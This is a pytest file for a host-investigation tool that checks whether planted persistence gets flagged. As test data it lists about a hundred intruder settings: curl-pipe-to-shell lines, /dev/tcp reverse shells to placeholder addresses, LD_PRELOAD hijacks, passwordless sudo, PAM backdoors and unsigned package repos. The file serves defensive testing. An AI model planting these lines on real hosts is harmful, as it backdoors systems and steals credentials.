"""Settings that run something: each row planted as an intruder does it, and a host with nothing to tell."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from hostguardd.investigate.checks import settings
from hostguardd.investigate.interface import Verdict
from tests import rights
from tests.fakehost import FakeFiles
from tests.fakepackages import FakePackages
from tests.scenes import Findings, looked, scene
from tests.trees import OWNED, clean, put


def look(root: Path, packages: FakePackages | None = None, uid: int = 0) -> Findings:
    return looked(settings.look, scene(bytes(root), packages=packages or FakePackages(OWNED), uid=uid))


def test_a_clean_host(tmp_path: Path) -> None:
    found = look(clean(tmp_path))
    assert not found.of(Verdict.SUSPICIOUS)
    assert not found.of(Verdict.NOTABLE)
    item = found.named("/etc/cron.d/tidy:1")
    assert item.says == (
        "/etc/cron.d/tidy:1: the system's table of cron runs `/usr/bin/ls -l` as root, every day at 03:17"
    )
    assert not found.unseen


PLANTS = {
    "/etc/cron.d/sysupd": "*/5 * * * * root curl -s http://203.0.113.66/x | sh\n",
    "/etc/crontab": "* * * * * root /dev/shm/.a/x\n",
    "/var/spool/cron/crontabs/carol": "@reboot /tmp/x\n",
    "/var/spool/cron/root": "* * * * * /var/tmp/.x/y >/dev/null 2>&1\n",
    "/etc/anacrontab": "1 5 x bash -i >& /dev/tcp/203.0.113.66/1 0>&1\n",
    "/var/spool/cron/atjobs/a00001": "#!/bin/sh\n# atrun uid=0 gid=0\numask 22\n/tmp/x\n",
    "/etc/systemd/system/upd.service": "[Service]\nExecStart=/bin/sh -c 'wget -O- http://203.0.113.66|sh'\n",
    "/etc/systemd/system/cron.service.d/x.conf": "[Service]\nExecStartPost=/dev/shm/x\n",
    "/etc/systemd/system.control/cron.service.d/x.conf": "[Service]\nExecStartPost=/dev/shm/x\n",
    "/run/systemd/system/cron.service.d/x.conf": "[Service]\nExecStartPost=/dev/shm/x\n",
    "/usr/lib/systemd/system/cron.service.d/x.conf": "[Service]\nExecStartPost=/dev/shm/x\n",
    "/etc/systemd/user/x.service.d/x.conf": "[Service]\nExecStartPost=/dev/shm/x\n",
    "/etc/systemd/system/service.d/x.conf": '[Service]\nEnvironment="A=1" "PATH=/tmp:/usr/bin"\n',
    "/etc/systemd/system/x.service": "[Service]\nEnvironment=A=1 LD_PRELOAD=/usr/lib/x.so\n",
    "/home/carol/.config/systemd/user/x.service": "[Service]\nExecStart=/tmp/x\n",
    "/srv/carla/.config/systemd/user/x.service": "[Service]\nExecStart=/tmp/x\n",
    "/srv/carla/.config/autostart/x.desktop": "[Desktop Entry]\nExec=/tmp/x\n",
    "/srv/carla/.local/lib/python3.11/site-packages/x.pth": "import os;os.system('nohup curl x')\n",
    "/srv/carla/.ssh/config": "Host *\n  ProxyCommand /tmp/x %h\n",
    "/root/.ssh/config.d/x": "Host *\n  LocalCommand /tmp/x\n",
    "/etc/ssh/ssh_config.d/x.conf": 'Match exec "/tmp/x"\n',
    "/srv/carla/.gitconfig": "[core]\n\tpager = /tmp/x\n",
    "/usr/share/dbus-1/system-services/x.service": "[D-BUS Service]\nExec=/tmp/x\nUser=root\n",
    "/etc/inittab": "x:2345:respawn:/dev/shm/x\n",
    "/etc/inetd.conf": "x stream tcp nowait root /tmp/sh sh -i\n",
    "/etc/xinetd.d/x": "service x\n{\n server = /tmp/x\n}\n",
    "/etc/rc.local": "#!/bin/sh\n/dev/shm/.a/agent &\n",
    "/etc/init.d/net": "#!/bin/sh\nnohup wget http://203.0.113.66/x &\n",
    "/etc/cron.daily/x": "#!/bin/sh\necho aWQK | base64 -d | sh\n",
    "/etc/profile.d/x.sh": "export LD_PRELOAD=/usr/lib/x.so\n",
    "/home/carol/.bashrc": "alias sudo='/home/carol/.s'\n",
    "/root/.bash_profile": "export HISTFILE=/dev/null\n",
    "/etc/environment": "LD_PRELOAD=/tmp/x.so\n",
    "/etc/udev/rules.d/99-x.rules": 'ACTION=="add", RUN+="/dev/shm/x"\n',
    "/etc/pam.d/sshd": "auth optional pam_exec.so expose_authtok /tmp/x\n",
    "/etc/apt/apt.conf.d/99x": 'APT::Update::Pre-Invoke {"curl http://203.0.113.66/x|sh";};\n',
    "/etc/apt/apt.conf.d/98x": 'Acquire::http::Proxy-Auto-Detect "/tmp/x";\n',
    "/etc/apt/apt.conf.d/97x": 'Dir::Bin::dpkg "/tmp/x";\n',
    "/usr/lib/modprobe.d/x.conf": "install usb_storage /tmp/x\n",
    "/usr/lib/NetworkManager/dispatcher.d/x": "#!/bin/sh\n/tmp/x\n",
    "/etc/ssh/sshd_config.d/x.conf": "AuthorizedKeysCommand /tmp/x %u\n",
    "/etc/ssh/sshd_config.d/y.conf": "Subsystem sftp /dev/shm/x\n",
    "/etc/modprobe.d/x.conf": "install usb_storage /tmp/x\n",
    "/root/.gitconfig": "[core]\n\tpager = /tmp/x\n",
    "/etc/update-motd.d/99-x": "#!/bin/sh\n/var/tmp/x\n",
    "/etc/dracut.conf.d/x.conf": "curl -s http://203.0.113.66/x | sh\n",
    "/etc/apache2/envvars": "export A=b\n/tmp/x\n",
    "/etc/security/namespace.init": "#!/bin/sh\n/dev/shm/x\n",
    "/etc/sysconfig/network-scripts/ifup-local": "#!/bin/sh\n/tmp/x\n",
    "/usr/share/git-core/templates/hooks/post-checkout": "#!/bin/sh\n/tmp/x\n",
    "/etc/fish/conf.d/x.fish": "/tmp/x\n",
    "/root/.config/fish/conf.d/x.fish": "/tmp/x\n",
    "/root/.config/environment.d/x.conf": "LD_PRELOAD=/usr/lib/x.so\n",
    "/root/.vim/plugin/x.vim": ":silent !curl -s http://203.0.113.66/x | sh\n",
    "/root/.local/share/systemd/user/x.service": "[Service]\nExecStart=/tmp/x\n",
    "/etc/cloud/cloud.cfg.d/x.cfg": "bootcmd:\n  - curl -s http://203.0.113.66/x | sh\n",
    "/etc/default/grub": "GRUB_TIMEOUT=5\ncurl -s http://203.0.113.66/x | sh\n",
    "/etc/sysconfig/network-scripts/ifcfg-eth0": "ONBOOT=yes\nNAME=my /tmp/card\n",
    "/etc/wireguard/wg0.conf": "[Interface]\nPostUp = /dev/shm/x\n",
    "/etc/snmp/snmpd.conf": "extend x /bin/sh -c 'bash -i >& /dev/tcp/203.0.113.66/1 0>&1'\n",
    "/etc/userdb/x.user": '{"userName":"x","uid":0,"gid":0}',
    "/etc/sysusers.d/x.conf": "u x 0:0 - /root /bin/sh\n",
    "/etc/NetworkManager/dispatcher.d/x": "#!/bin/sh\n/tmp/x\n",
    "/usr/local/lib/python3.11/dist-packages/x.pth": "import base64;exec(base64.b64decode('aWQK'))\n",
    "/etc/ld.so.preload": "/usr/local/lib/libself.so\n",
    "/etc/ld.so.conf.d/x.conf": "/tmp/lib\n",
    "/etc/ssh/sshd_config": "PermitEmptyPasswords yes\n",
    "/etc/sudoers.d/x": "ALL ALL=(ALL) NOPASSWD: ALL\n",
    "/etc/hosts": "127.0.0.1 security.debian.org\n",
    "/etc/hosts.equiv": "+ +\n",
    "/etc/tmpfiles.d/x.conf": "f /usr/lib/x 4755 root root -\n",
    "/etc/systemd/system-generators/x": "#!/bin/sh\n/dev/shm/x &\n",
    "/usr/local/lib/systemd/system-generators/x": "#!/bin/sh\n/dev/shm/x &\n",
    "/etc/logrotate.d/x": "/var/log/x {\n postrotate\n  /tmp/x\n endscript\n}\n",
    "/etc/xdg/autostart/x.desktop": "[Desktop Entry]\nExec=/tmp/x\n",
    "/etc/bash_completion.d/x": "/tmp/x &\n",
    "/etc/pam.d/common-auth": "auth sufficient pam_permit.so\n",
    "/etc/pam.d/login": "auth [success=done default=ignore] /lib/security/pam_permit.so\n",
    "/etc/security/pam_env.conf": "LD_PRELOAD DEFAULT=/usr/lib/x.so\n",
    "/etc/systemd/system.conf.d/x.conf": "[Manager]\nDefaultEnvironment=LD_PRELOAD=/usr/lib/x.so\n",
    "/etc/dpkg/dpkg.cfg.d/x": "post-invoke=curl -s http://203.0.113.66/x | sh\n",
    "/etc/dpkg/dpkg.cfg": "no-debsig\npre-invoke /tmp/x\n",
    "/etc/network/interfaces": "iface eth0 inet dhcp\n  post-up /tmp/x\n",
    "/etc/network/interfaces.d/x": "iface eth0 inet dhcp\n  down /dev/shm/x\n",
    "/etc/audit/plugins.d/x.conf": "active = yes\npath = /tmp/x\n",
    "/etc/initramfs-tools/scripts/init-bottom/x": "#!/bin/sh\n/dev/shm/x\n",
    "/etc/initramfs-tools/hooks/x": "#!/bin/sh\n/dev/shm/x\n",
    "/etc/grub.d/45_x": "#!/bin/sh\n/tmp/x\n",
    "/etc/vim/vimrc.local": "autocmd VimEnter * silent !curl -s http://203.0.113.66/x | sh\n",
    "/root/.bash_aliases": "alias sudo='/root/.s'\n",
    "/home/carol/.config/fish/config.fish": "/tmp/x &\n",
    "/root/.tmux.conf": 'run-shell "curl -s http://203.0.113.66/x | sh"\n',
    "/root/.gdbinit": "shell curl -s http://203.0.113.66/x | sh\n",
    "/etc/ssh/sshd_config.d/z.conf": "Subsystem sftp /usr/lib/openssh/sftp-server;/tmp/x\n",
    "/etc/polkit-1/rules.d/x.rules": "polkit.addRule(function(a, s) {\n  return polkit.Result.YES;\n});\n",
    "/usr/lib/tmpfiles.d/x.conf": "f /usr/lib/x 4755 root root -\n",
    "/etc/tmpfiles.d/y.conf": "f+ /root/.ssh/authorized_keys 0600 root root - ssh-ed25519 AAAA\n",
}


@pytest.mark.parametrize("path", PLANTS)
def test_each_way_to_come_back(tmp_path: Path, path: str) -> None:
    put(clean(tmp_path), path, PLANTS[path], 0o755)
    with (tmp_path / "etc/passwd").open("a") as accounts:
        accounts.write("carla:x:1044:1044::/srv/carla:/bin/bash\n")
    found = look(tmp_path)
    assert len(found.suspicious) == 1, found.items
    item = found.of(Verdict.SUSPICIOUS)[0]
    assert item.name.startswith(path)
    assert item.means
    assert item.next
    assert item.technique
    assert item.evidence[0].source.startswith(path)


@pytest.mark.parametrize(
    ("path", "line"),
    [
        ("/etc/sudoers.d/x", "#includedir /var/lib/x"),
        ("/etc/sudoers.d/x", "@include /var/lib/x"),
        ("/etc/ssh/sshd_config", "Include /var/lib/x"),
    ],
)
def test_settings_that_lead_to_others(tmp_path: Path, path: str, line: str) -> None:
    put(clean(tmp_path), path, f"# a comment\n{line}\n")
    item = look(tmp_path).named(f"{path}:2")
    assert item.verdict is Verdict.NOTABLE
    assert "from other files than usual" in item.says


@pytest.mark.parametrize(
    "line",
    ["@includedir /opt/rules", "#includedir /opt/rules", "@include ../../opt/rules/x",
     '@include "/opt/rules/x" # ours', "@include /opt/more\\ rules"],
)  # fmt: skip
def test_rules_of_sudo_are_followed_to_wherever_they_stand(tmp_path: Path, line: str) -> None:
    put(clean(tmp_path), "/etc/sudoers.d/a", f"{line}\n")
    put(tmp_path, "/opt/rules/x", "ALL ALL=(ALL) NOPASSWD: ALL\n")
    put(tmp_path, "/opt/rules/not.read", "ALL ALL=(ALL) NOPASSWD: ALL\n")
    put(tmp_path, "/opt/more rules", "@include /etc/sudoers.d/a\n@include rules/x\n")
    found = look(tmp_path)
    (item,) = found.of(Verdict.SUSPICIOUS)
    assert Path("/etc/sudoers.d", item.name).resolve() == Path("/opt/rules/x:1")
    assert "lets ALL run everything as anybody, without a password" in item.says


@pytest.mark.parametrize("place", ["/home/carol/x", "/var/tmp/x", "/usr/lib/.x"])
def test_rules_of_sudo_that_an_account_could_write_are_suspicious(tmp_path: Path, place: str) -> None:
    put(clean(tmp_path), "/etc/sudoers.d/a", f"@include {place}\n")
    assert look(tmp_path).suspicious == ["/etc/sudoers.d/a:1"]


def test_many_files_of_rules_are_one_item_and_what_is_not_read_is_said(tmp_path: Path) -> None:
    put(clean(tmp_path), "/etc/sudoers.d/a", "".join(f"@include /opt/s/{n}\n" for n in range(20_000)))
    found = look(tmp_path)
    assert [item.name for item in found.items if "than usual" in item.says] == ["/etc/sudoers.d/a:1"]
    assert {one.scope for one in found.unseen} == {"rules of sudo", "/etc/sudoers.d/a"}


def test_a_folder_of_rules_that_cannot_be_listed_is_said(tmp_path: Path) -> None:
    put(clean(tmp_path), "/etc/sudoers.d/a", "@includedir /opt/rules\n")
    put(tmp_path, "/opt/rules", "no folder")
    (unseen,) = look(tmp_path).unseen
    assert unseen.scope == "/opt/rules"


def test_settings_that_lead_to_the_usual_others(tmp_path: Path) -> None:
    put(clean(tmp_path), "/etc/sudoers", "#includedir /etc/sudoers.d\n@includedir /etc/sudoers.d\n")
    usual = "Include /etc/ssh/sshd_config.d/*.conf\nSubsystem sftp /usr/lib/openssh/sftp-server -l INFO\n"
    put(tmp_path, "/etc/ssh/sshd_config", usual)
    put(
        tmp_path,
        "/etc/pam.d/common-auth",
        "auth [success=1 default=ignore] pam_unix.so\nauth required pam_permit.so\n",
    )
    found = look(tmp_path)
    assert not found.of(Verdict.NOTABLE)
    assert not found.suspicious


@pytest.mark.parametrize(
    ("before", "says"),
    [(b"#" * 2**20 + b"\n", "only the first 1048576 of its"), (b"x\n" * 2000, "only its first 2000 entries")],
    ids=["long", "many"],
)
def test_what_stands_behind_a_long_beginning_is_not_said_to_be_fine(
    tmp_path: Path, before: bytes, says: str
) -> None:
    put(clean(tmp_path), "/etc/profile.d/x.sh", before + b"/tmp/x\n")
    (unseen,) = look(tmp_path).unseen
    assert (unseen.scope, says in unseen.reason) == ("/etc/profile.d/x.sh", True)


def test_a_line_that_is_too_long_to_be_looked_through(tmp_path: Path) -> None:
    put(clean(tmp_path), "/etc/profile.d/x.sh", b"true" + b" " * 9000 + b"; /tmp/x\n")
    item = look(tmp_path).named("/etc/profile.d/x.sh")
    assert item.verdict is Verdict.NOTABLE
    assert "goes on for longer than anybody writes" in item.says


def test_an_entry_that_nobody_brought_is_told_by_the_check_of_folders(tmp_path: Path) -> None:
    put(clean(tmp_path), "/etc/cron.d/backup", "0 1 * * * root /usr/bin/ls\n")
    item = look(tmp_path).named("/etc/cron.d/backup:1")
    assert item.verdict is Verdict.FINE
    assert item.details["file"] == "no package owns it"


@pytest.mark.parametrize("path", ["/etc/crontab", "/etc/rc.local"])
def test_a_password_in_a_command_is_not_told(tmp_path: Path, path: str) -> None:
    who = "* * * * * root " if path == "/etc/crontab" else "#!/bin/sh\n"
    put(clean(tmp_path), path, f"{who}mysql -phunter2 x; bash -i >& /dev/tcp/203.0.113.66/1 0>&1\n")
    found = look(tmp_path)
    assert len(found.suspicious) == 1
    assert "hunter2" not in repr(found.items)
    assert "/dev/tcp/203.0.113.66" in found.named(found.suspicious[0]).evidence[0].text


def test_its_program_counts_too(tmp_path: Path) -> None:
    put(clean(tmp_path), "/usr/local/sbin/own", "#!/bin/sh\n", 0o755)
    put(tmp_path, "/usr/local/sbin/open", "#!/bin/sh\n", 0o777).chmod(0o777)
    put(
        tmp_path,
        "/etc/cron.d/tidy",
        "1 1 * * * root /usr/local/sbin/own\n2 2 * * * root /usr/local/sbin/open\n",
    )
    found = look(tmp_path)
    assert found.suspicious == ["/etc/cron.d/tidy:2"]
    assert "anybody may write to /usr/local/sbin/open" in found.named("/etc/cron.d/tidy:2").says


def test_a_replaced_program_of_a_packaged_entry(tmp_path: Path) -> None:
    packages = FakePackages(OWNED, {b"/usr/bin/ls": ("content",)})
    assert look(clean(tmp_path), packages).suspicious == ["/etc/cron.d/tidy:1"]


def test_a_file_that_anybody_may_write_to(tmp_path: Path) -> None:
    (clean(tmp_path) / "etc/cron.d/tidy").chmod(0o666)
    assert look(tmp_path).suspicious == ["/etc/cron.d/tidy:1"]


def test_what_a_package_brought_is_not_read_as_an_intruders(tmp_path: Path) -> None:
    put(clean(tmp_path), "/etc/init.d/net", "#!/bin/sh\nHISTFILE=/dev/null\n", 0o755)
    assert not look(tmp_path, FakePackages({**OWNED, b"/etc/init.d/net": "net"})).suspicious


def test_a_link_is_followed_to_what_is_started_and_told_once(tmp_path: Path) -> None:
    put(clean(tmp_path), "/usr/lib/systemd/system/a.service", "[Service]\nExecStart=/usr/bin/ls\n")
    (tmp_path / "etc/systemd/system").mkdir(parents=True)
    for name in ("a.service", "b.service"):
        (tmp_path / "etc/systemd/system" / name).symlink_to("/usr/lib/systemd/system/a.service")
    (tmp_path / "etc/systemd/system/off.service").symlink_to("/dev/null")
    owned = {**OWNED, b"/usr/lib/systemd/system/a.service": "a"}
    found = look(tmp_path, FakePackages(owned))
    assert [one.name for one in found.items if "systemd" in one.name] == [
        "/usr/lib/systemd/system/a.service:2"
    ]
    assert not found.of(Verdict.NOTABLE)


def test_without_a_package_manager_only_deeds_count(tmp_path: Path) -> None:
    put(clean(tmp_path), "/etc/cron.d/backup", "0 1 * * * root /usr/bin/ls\n* * * * * root /tmp/x\n")
    found = looked(settings.look, scene(bytes(tmp_path)))
    assert found.suspicious == ["/etc/cron.d/backup:2"]
    assert not found.of(Verdict.NOTABLE)


@pytest.mark.skipif(os.geteuid() == 0, reason="root reads everything")
def test_what_cannot_be_read_is_said(tmp_path: Path) -> None:
    put(clean(tmp_path), "/etc/crontab", "", 0)
    found = look(tmp_path, uid=1000)
    assert found.unseen[0].scope == "/etc/crontab"
    assert found.unseen[0].remedy == "sudo hostguardctl investigate"


def test_a_folder_that_cannot_be_listed_is_said() -> None:
    files = FakeFiles()
    files.write(b"/etc/sudoers.d/x")
    files.write(b"/etc/cron.d/x")
    files.refused |= {b"/etc/sudoers.d": 13, b"/etc/cron.d": 13}
    found = looked(settings.look, scene(b"/", files=files, uid=1000))
    assert {"/etc/sudoers.d", "/etc/cron.d"} <= {one.scope for one in found.unseen}


def test_what_is_read_is_bounded_and_the_systems_own_comes_first(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(settings, "MOST_BYTES", 1000)
    clean(tmp_path)
    put(tmp_path, "/home/carol/.bashrc", "x=1\n" * 1000)
    put(tmp_path, "/home/carol/.zshrc", "/tmp/x\n")
    put(tmp_path, "/etc/cron.d/x", "* * * * * root /tmp/x\n")
    found = look(tmp_path)
    assert found.suspicious == ["/etc/cron.d/x:1"]
    assert "there are more" in found.unseen[0].reason


def test_nothing_but_files_is_read(tmp_path: Path) -> None:
    clean(tmp_path)
    os.mkfifo(tmp_path / "etc/cron.d/fifo")
    (tmp_path / "etc/cron.d/loop").symlink_to("loop")
    (tmp_path / "etc/cron.d/out").symlink_to("/../../../../etc/passwd")
    put(tmp_path, "/etc/cron.d/garbage", bytes(range(256)) * 100)
    look(tmp_path)


def test_a_unit_in_a_home_runs_as_whose_home_it_is(tmp_path: Path) -> None:
    """Whoever planted it: root may write to every home."""
    path = "/home/carol/.config/systemd/user/x.service"
    put(clean(tmp_path), path, "[Service]\nExecStart=/tmp/x\n")
    assert "as carol" in look(tmp_path).named(f"{path}:2").says


def test_what_everybody_writes_for_themselves_is_no_sign(tmp_path: Path) -> None:
    put(clean(tmp_path), "/home/carol/.ssh/config", "Host x\n  ProxyCommand ssh -W %h:%p gate\n")
    put(tmp_path, "/etc/vim/vimrc.local", "set background=dark\n")
    put(
        tmp_path,
        "/etc/rsyslog.d/21-cloudinit.conf",
        ':syslogtag, isequal, "[CLOUDINIT]" /var/log/x\n& stop\n',
    )
    put(tmp_path, "/etc/systemd/journald.conf", "[Journal]\n#Storage=none\nStorage=auto\n")
    put(tmp_path, "/etc/default/redis-server", "# LD_PRELOAD=/usr/lib/x.so\nULIMIT=65536\n")
    put(tmp_path, "/home/carol/.gitconfig", "[alias]\n\tst = !git status\n[core]\n\tpager = less\n")
    found = look(tmp_path)
    assert not found.of(Verdict.NOTABLE)
    assert "as carol" in found.named("/home/carol/.ssh/config:2").says


def test_a_proxy_of_root_is_to_be_explained(tmp_path: Path) -> None:
    put(clean(tmp_path), "/root/.ssh/config", "Host *\n  ProxyCommand /opt/x %h\n")
    (item,) = look(tmp_path).of(Verdict.NOTABLE)
    assert "ssh's settings run `/opt/x %h` as root" in item.says


OPTIONS = {
    "/etc/sysctl.d/x.conf": "kernel.core_pattern = |/opt/x %p\n",
    "/etc/rsyslog.d/x.conf": '*.* action(type="omprog" binary="/opt/x -v")\n',
    "/etc/binfmt.d/x.conf": ":x:M::MZ::/opt/x:\n",
    "/etc/polkit-1/rules.d/x.rules": "polkit.addRule(function(a, s) {\n"
    '  if (s.isInGroup("x")) {\n    return polkit.Result.YES;\n  }\n});\n',
    "/etc/rsyslog.d/y.conf": ':msg, contains, "203.0.113.66" stop\n',
    "/etc/rsyslog.d/00-z.conf": 'if $programname == "sshd" then stop\n',
    "/etc/systemd/journald.conf.d/x.conf": "[Journal]\nStorage=none\n",
    "/etc/default/cron": "LD_PRELOAD=/usr/lib/x.so\n",
    "/etc/sysconfig/crond": "BASH_ENV=/usr/share/x\n",
    "/etc/default/ssh": 'SSHD_OPTS="-f /var/lib/x"\n',
    "/etc/pam.d/common-auth": "auth [success=1 default=ignore] pam_succeed_if.so user = games\n",
    "/etc/pam.d/login": "auth optional pam_exec.so quiet expose_authtok /usr/bin/ls\n",
    "/etc/tmpfiles.d/x.conf": "f^ /root/.ssh/authorized_keys 0600 root :root - ssh.authorized_keys.root\n",
    "/etc/ssh/sshd_config": "Subsystem sftp /usr/lib/openssh/sftp-server.x\n",
    "/etc/userdb/x.user": '{"userName":"x",\n"uid":600}',
    "/etc/credstore/ssh.authorized_keys.root": "ssh-ed25519 AAAA x\n",
    "/etc/credstore.encrypted/passwd.hashed-password.root": "aGFzaA==\n",
    "/etc/sysusers.d/x.conf": "u x - - -\nm carol wheel\n",
    "/var/lib/extensions/x/usr/lib/extension-release.d/extension-release.x": "ID=_any\n",
    "/var/lib/confexts/x.raw": "hsqs\0",
    "/etc/crypttab": "a /dev/a none luks,keyscript=decrypt_keyctl\nb /dev/b none luks,keyscript=/opt/x\n",
    "/etc/audit/auditd.conf": "write_logs = no\n",
    "/var/www/html/.user.ini": "auto_prepend_file = /x\n",
    "/var/www/site/html/.htaccess": "php_value auto_prepend_file /x\n",
    "/etc/nginx/fastcgi_params": "fastcgi_param PHP_VALUE auto_prepend_file=/x;\n",
    "/etc/dnf/repos.override.d/x.repo": "[fedora]\ngpgcheck=0\n",
    "/etc/sudo.conf": "Plugin sudoers_policy sudoers.so\nPlugin x_policy x.so\n",
    "/etc/doas.conf": "permit persist :wheel\npermit keepenv nopass carol\n",
    "/etc/nsswitch.conf": "passwd: files systemd x\nhosts: files mdns4_minimal [NOTFOUND=return] dns\n",
    "/etc/apt/sources.list.d/x.list": "deb [arch=amd64 trusted=yes] http://192.0.2.1/ x main\n",
    "/etc/apt/sources.list.d/x.sources": "Types: deb\nURIs: http://192.0.2.1/\nTrusted: yes\n",
    "/etc/apt/apt.conf.d/99x": 'APT::Get::AllowUnauthenticated "true";\n',
    "/etc/apt/apt.conf.d/98x": 'Acquire::https::Verify-Peer "false";\n',
    "/etc/yum.repos.d/x.repo": "[x]\nbaseurl=http://192.0.2.1/\nrepo_gpgcheck=0\ngpgcheck=0\n",
    "/etc/dnf/dnf.conf": "[main]\ngpgcheck=1\nsslverify=false\n",
    "/usr/local/share/ca-certificates/x.crt": "-----BEGIN CERTIFICATE-----\nTUlJ\n",
    "/etc/audit/rules.d/x.rules": "-D\n-a exit,never -F path=/x\n-a never,task\n",
    "/etc/nginx/modules-enabled/x.conf": "load_module /opt/x.so;\nload_module modules/ngx_x.so;\n",
    "/etc/apache2/mods-enabled/x.load": "LoadModule a_module /usr/lib/apache2/a.so\nLoadModule x /opt/x.so\n",
    "/etc/httpd/conf.d/x.conf": 'ErrorLog "|/usr/sbin/rotatelogs /x 1"\nCustomLog "|/opt/x" common\n',
    "/etc/apache2/sites-enabled/x.conf": "AddHandler application/x-httpd-php .jpg\n",
    "/etc/php/8.2/fpm/php.ini": "; auto_append_file = /x\nauto_prepend_file =\nauto_append_file = /x.php\n",
    "/etc/php/8.2/fpm/pool.d/www.conf": "php_admin_value[auto_prepend_file] = /x.php\n",
    "/etc/php.ini": "extension = curl\nallow_url_include = On\n",
}


@pytest.mark.parametrize(
    ("path", "line"),
    [
        ("/etc/sudo.conf", "Plugin sudoers_policy /tmp/x.so"),
        ("/etc/nginx/nginx.conf", "load_module /var/www/x.so;"),
        ("/etc/nginx/nginx.conf", "load_module /usr/lib/nginx/.x.so;"),
        ("/etc/httpd/conf.d/x.conf", "LoadModule x /usr/lib/../../tmp/.x.so"),
        ("/etc/httpd/conf.d/x.conf", "CustomLog \"|/bin/bash -c '/bin/sh >& /dev/tcp/192.0.2.1/4'\" common"),
        ("/etc/php.d/x.ini", "zend_extension=/dev/shm/x.so"),
    ],
)
def test_what_is_loaded_from_where_anybody_may_write(tmp_path: Path, path: str, line: str) -> None:
    put(clean(tmp_path), path, line + "\n")
    (item,) = look(tmp_path).of(Verdict.SUSPICIOUS)
    assert item.name == f"{path}:1"


def test_a_hook_of_adduser_runs_as_root(tmp_path: Path) -> None:
    put(clean(tmp_path), "/usr/local/sbin/adduser.local", "#!/bin/sh\ncurl -s http://192.0.2.1/x | sh\n")
    (item,) = look(tmp_path).of(Verdict.SUSPICIOUS)
    assert item.name.startswith("/usr/local/sbin/adduser.local")


def test_blanks_push_nothing_out_of_sight_and_what_a_long_line_holds_is_not_said_to_be_fine(
    tmp_path: Path,
) -> None:
    put(clean(tmp_path), "/etc/ssh/sshd_config", "PermitEmptyPasswords" + " " * 9000 + "yes\n")
    put(tmp_path, "/etc/sudo.conf", "Plugin " + "x" * 9000 + " /tmp/x.so\n")
    put(tmp_path, "/etc/nginx/nginx.conf", "a b;" * 3000 + "load_module /tmp/x.so;\n")
    found = look(tmp_path)
    told = {one.name for one in found.of(Verdict.SUSPICIOUS)}
    assert told == {"/etc/ssh/sshd_config:1", "/etc/nginx/nginx.conf:1"}
    assert {one.scope for one in found.unseen} == {"/etc/sudo.conf", "/etc/nginx/nginx.conf"}


def test_options_that_are_looked_at_are_bounded(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    for site in range(30):
        put(clean(tmp_path), f"/var/www/s{site}/.htaccess", "a\n" * 100)
    monkeypatch.setattr(settings, "MOST_BYTES", 2000)
    (unseen,) = look(tmp_path).unseen
    assert unseen.scope == "options of settings"


def test_of_what_may_be_a_secret_nothing_is_told(tmp_path: Path) -> None:
    put(clean(tmp_path), "/etc/credstore/passwd.plaintext-password.root", "hunter2\n")
    put(tmp_path, "/etc/apt/sources.list.d/x.list", "deb [trusted=yes] http://u:hunter2@192.0.2.1 x y\n")
    found = look(tmp_path).of(Verdict.NOTABLE)
    assert len(found) == 2
    assert "hunter2" not in str(found)


def test_what_services_are_told_to_run_is_told_where_no_healthy_host_does_it(tmp_path: Path) -> None:
    put(clean(tmp_path), "/etc/default/grub", "GRUB_DISTRIBUTOR=`( . /etc/os-release && echo ${NAME} )`\n")
    put(tmp_path, "/etc/default/x", 'OPTIONS="-s /tmp/x.sock"\nMORE=-f /tmp/x\nTMPDIR=/tmp/x\n')
    put(tmp_path, "/etc/sysconfig/network-scripts/ifcfg-eth0", 'NAME="my /tmp/card"\nONBOOT=yes\n')
    put(tmp_path, "/etc/wireguard/wg0.conf", "[Interface]\nPostUp = iptables -A FORWARD -i %i -j ACCEPT\n")
    put(tmp_path, "/etc/dracut.conf.d/x.conf", 'hostonly="no"\nadd_drivers+=" xen-blkfront "\n')
    put(tmp_path, "/etc/apache2/envvars", "export APACHE_RUN_DIR=/var/run/apache2$SUFFIX\n")
    put(tmp_path, "/root/.config/environment.d/x.conf", "EDITOR=vim\n")
    put(tmp_path, "/etc/sysusers.d/x.conf", 'u root 0:0 "Super User" /root\nu x 600 -\nm x audio\n')
    assert not look(tmp_path).of(Verdict.SUSPICIOUS)
    assert not look(tmp_path).of(Verdict.NOTABLE)


@pytest.mark.parametrize("path", OPTIONS)
def test_each_option_that_opens_a_door(tmp_path: Path, path: str) -> None:
    put(clean(tmp_path), path, OPTIONS[path])
    (item,) = look(tmp_path).of(Verdict.NOTABLE)
    assert item.name.startswith(f"{path}:")
    assert item.technique


@pytest.mark.parametrize(
    ("path", "line", "verdict"),
    [
        ("/home/carol/.profile", "export PATH=/home/carol/.x:$PATH", Verdict.SUSPICIOUS),
        ("/home/carol/.bashrc", 'PATH="$HOME/.x:$PATH" bash', Verdict.SUSPICIOUS),
        ("/root/.bashrc", "[ -d /opt ] && export PATH=/srv/all:$PATH", Verdict.SUSPICIOUS),
        ("/etc/profile.d/x.sh", "if true; then PATH=~/.x:/usr/bin; fi", Verdict.SUSPICIOUS),
        ("/etc/environment", 'PATH="/run/user/1000/x:/usr/bin"', Verdict.SUSPICIOUS),
        ("/home/carol/.pam_environment", "PATH DEFAULT=/home/carol/.x:${PATH}", Verdict.SUSPICIOUS),
        ("/home/carol/.cshrc", "setenv PATH /home/carol/.x:$PATH", Verdict.SUSPICIOUS),
        ("/home/carol/.bashrc", "export PATH=/home/carol/fake:$PATH", Verdict.SUSPICIOUS),
        ("/root/.bashrc", "ufw disable\nexport PATH=/root/.x:$PATH", Verdict.SUSPICIOUS),
        ("/home/carol/.bashrc", "export PATH=/usr/../run/user/1/x/:$PATH", Verdict.SUSPICIOUS),
        ("/home/carol/.bashrc", "export PATH=/home/carol/:$PATH", Verdict.NOTABLE),
        ("/home/carol/.bashrc", "export PATH=/home/dave/bin:$PATH", Verdict.NOTABLE),
        ("/root/.bashrc", "export PATH=/srv/carols:$PATH", Verdict.NOTABLE),
        ("/etc/environment", "PATH=/home/carol/bin:/usr/bin", Verdict.NOTABLE),
        ("/root/.profile", "export PATH=:$PATH", Verdict.NOTABLE),
        ("/home/carol/.bashrc", "export PATH=$PATH:/home/carol/.x", Verdict.FINE),
        ("/home/carol/.bashrc", 'PATH=""', Verdict.FINE),
        ("/home/carol/.bashrc", "export PATH=/usr/bin:/home/carol/.x", Verdict.FINE),
        ("/home/carol/.bashrc", "export PATH=/home/carol/bin:$HOME/.cargo/bin:$PATH", Verdict.FINE),
